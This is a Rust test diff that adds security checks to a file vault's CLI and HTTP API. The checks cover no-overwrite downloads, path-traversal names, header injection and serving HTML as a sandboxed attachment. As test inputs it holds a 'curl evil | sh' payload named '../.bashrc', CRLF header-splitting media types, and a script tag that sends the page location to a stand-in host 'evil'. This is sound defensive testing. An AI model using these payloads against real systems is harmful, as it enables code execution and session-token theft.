@@ -532,10 +532,24 @@ fn public_items_and_bad_input() {
         &["update", &piped, "-"],
         b"piped again",
     ));
+    // A name the item chose never replaces a file already there; one named with -o does.
+    failed_with(
+        &vault(
+            &rpc,
+            alice,
+            &["get", &piped, "-o", downloads.to_str().expect("utf-8")],
+        ),
+        "already exists",
+    );
+    assert_eq!(
+        std::fs::read(downloads.join("notes.txt")).ok(),
+        Some(b"piped in".to_vec())
+    );
+    let named = downloads.join("notes.txt");
     let got = ok_json(&vault(
         &rpc,
         alice,
-        &["get", &piped, "-o", downloads.to_str().expect("utf-8")],
+        &["get", &piped, "-o", named.to_str().expect("utf-8")],
     ));
     assert_eq!(
         (got["name"].as_str(), got["version"].as_u64()),
@@ -544,6 +558,43 @@ fn public_items_and_bad_input() {
     assert_eq!(
         std::fs::read(downloads.join("notes.txt")).ok(),
         Some(b"piped again".to_vec())
+    );
+    // An item named like a shell start-up file lands as a plain, visible file.
+    let hostile = ok_json(&vault_stdin(
+        &rpc,
+        alice,
+        &["add", "-", "--name", "../.bashrc", "--no-wait"],
+        b"curl evil | sh",
+    ));
+    let hostile = hostile["item"].as_str().expect("item").to_string();
+    let got = ok_json(&vault(
+        &rpc,
+        alice,
+        &["get", &hostile, "-o", downloads.to_str().expect("utf-8")],
+    ));
+    assert_eq!(
+        got["path"],
+        downloads.join("bashrc").to_str().expect("utf-8")
+    );
+    assert!(!downloads.join(".bashrc").exists() && !dir.path().join(".bashrc").exists());
+    // A media type that is not one is refused before anything is sent.
+    let before = ok_json(&vault(&rpc, alice, &["ls"]))
+        .as_array()
+        .map(Vec::len);
+    failed_with(
+        &vault_stdin(
+            &rpc,
+            alice,
+            &["add", "-", "--media-type", "text/html\r\nX: y"],
+            b"x",
+        ),
+        "is not a media type",
+    );
+    assert_eq!(
+        ok_json(&vault(&rpc, alice, &["ls"]))
+            .as_array()
+            .map(Vec::len),
+        before
     );
     // A directory cannot be added, and the refusal costs no transaction (no new item).
     let items = |who| ok_json(&vault(&rpc, who, &["ls"])).as_array().map(Vec::len);
@@ -826,6 +877,25 @@ fn custodial_http_api() {
             .and_then(|v| v.to_str().ok()),
         Some("audio/flac")
     );
+    // Shown inline (a player can play it), never sniffed, and in a CSP sandbox.
+    let header = |r: &ureq::http::Response<ureq::Body>, name: &str| {
+        r.headers()
+            .get(name)
+            .and_then(|v| v.to_str().ok())
+            .map(str::to_owned)
+    };
+    assert_eq!(
+        header(&r, "content-disposition").as_deref(),
+        Some("inline; filename=\"track.flac\"; filename*=UTF-8''track.flac")
+    );
+    assert_eq!(
+        header(&r, "x-content-type-options").as_deref(),
+        Some("nosniff")
+    );
+    assert_eq!(
+        header(&r, "content-security-policy").as_deref(),
+        Some("sandbox")
+    );
     let whole = r
         .body_mut()
         .with_config()
@@ -856,6 +926,62 @@ fn custodial_http_api() {
         .call()
         .expect("http");
     assert_eq!(r.status().as_u16(), 416);
+
+    // A published HTML page is offered as an attachment in a sandbox: it cannot run script on
+    // this node's origin, where the reader's session token is in the URL.
+    let mut r = agent
+        .post(format!(
+            "{rpc}/v1/files?name=page.html&media_type=text/html&wait=false"
+        ))
+        .header("Authorization", &bearer)
+        .send(&b"<script>fetch('//evil/?'+location)</script>"[..])
+        .expect("http");
+    assert_eq!(r.status().as_u16(), 201);
+    let page: Value = r.body_mut().read_json().expect("json");
+    let page = page["item"].as_str().expect("item").to_string();
+    let r = agent
+        .get(format!("{rpc}/v1/files/{page}?token={token}"))
+        .call()
+        .expect("http");
+    assert_eq!(r.status().as_u16(), 200);
+    assert_eq!(header(&r, "content-type").as_deref(), Some("text/html"));
+    assert!(
+        header(&r, "content-disposition").is_some_and(|d| d.starts_with("attachment;")),
+        "{:?}",
+        header(&r, "content-disposition")
+    );
+    assert_eq!(
+        header(&r, "content-security-policy").as_deref(),
+        Some("sandbox")
+    );
+    // A media type that is not one (here one that would split the header) is refused up
+    // front, by name, and nothing is created.
+    let items_before = agent
+        .get(format!("{rpc}/v1/items?token={token}"))
+        .call()
+        .expect("http")
+        .body_mut()
+        .read_to_string()
+        .expect("body");
+    let mut r = agent
+        .post(format!(
+            "{rpc}/v1/files?name=x.html&media_type=text%2Fhtml%0D%0ASet-Cookie%3A%20a%3Db"
+        ))
+        .header("Authorization", &bearer)
+        .send(&b"x"[..])
+        .expect("http");
+    assert_eq!(r.status().as_u16(), 400);
+    let body: Value = r.body_mut().read_json().expect("json");
+    let message = body["error"]["message"].as_str().unwrap_or_default();
+    assert!(message.contains("is not a media type"), "{body}");
+    let items_after = agent
+        .get(format!("{rpc}/v1/items?token={token}"))
+        .call()
+        .expect("http")
+        .body_mut()
+        .read_to_string()
+        .expect("body");
+    assert_eq!(items_before, items_after);
 
     // Multipart upload.
     let boundary = "XyZboundary";
@@ -897,7 +1023,8 @@ fn custodial_http_api() {
         .call()
         .expect("http");
     let items: Value = r.body_mut().read_json().expect("json");
-    assert_eq!(items["items"].as_array().map(Vec::len), Some(2));
+    // The track, the HTML page and the multipart upload.
+    assert_eq!(items["items"].as_array().map(Vec::len), Some(3));
 
     // Grant through the API to a dev account; it reads with the CLI.
     let reader = &dev_accounts(2)[1];
